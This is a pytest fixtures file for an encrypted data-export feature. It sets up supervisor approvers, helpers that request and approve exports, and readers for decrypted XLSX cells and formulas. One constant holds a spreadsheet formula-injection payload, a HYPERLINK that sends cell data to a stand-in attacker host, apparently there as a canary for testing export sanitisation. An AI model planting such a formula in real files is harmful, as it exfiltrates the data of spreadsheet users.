"""Export fixtures: two supervisors (approvers), canary names, and helpers to run an export."""

import io

import openpyxl
import pyrage
import pytest

from homeward.accounts.models import Role, User
from homeward.exports import services
from homeward.exports.choices import Dataset, ExportFormat, PurposeCategory

PURPOSE = "Prepare the list for the next Moscow flight"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def make_supervisor(username: str, *, states=None) -> User:
    """An MFA supervisor (holds exports.approve_exportrequest), all states or the given ones."""
    user = User.objects.create_user(username, password="correct horse battery staple")
    user.all_home_states = states is None
    user.save(update_fields=["all_home_states"])
    if states:
        user.home_states.set(states)
    user.roles.add(Role.objects.get(code="mfa_supervisor"))
    return User.objects.get(pk=user.pk)


@pytest.fixture
def supervisors(users) -> dict[str, User]:
    return {
        "first": make_supervisor("mfa.supervisor"),
        "second": make_supervisor("mfa.supervisor2"),
        "ru_only": make_supervisor("mfa.supervisor.ru", states=["RU"]),
    }


def request(actor, *, dataset=Dataset.CHILDREN, file_format=ExportFormat.XLSX, **filters):
    return services.request_export(
        actor=actor,
        dataset=dataset,
        file_format=file_format,
        purpose_category=PurposeCategory.OPERATION,
        purpose=PURPOSE,
        **filters,
    )


def approved(actor, approver, **kwargs):
    export = request(actor, **kwargs)
    return services.approve_export(export, actor=approver, note="ok")


def decrypt(ciphertext: bytes, passphrase: str) -> bytes:
    return pyrage.passphrase.decrypt(ciphertext, passphrase)


def xlsx_cells(plaintext: bytes) -> dict[str, list[list]]:
    """Every sheet's values as written (formulas are not evaluated)."""
    book = openpyxl.load_workbook(io.BytesIO(plaintext))
    return {
        sheet.title: [list(row) for row in sheet.iter_rows(values_only=True)]
        for sheet in book.worksheets
    }


def formula_cells(plaintext: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(plaintext))
    return [
        cell.coordinate
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
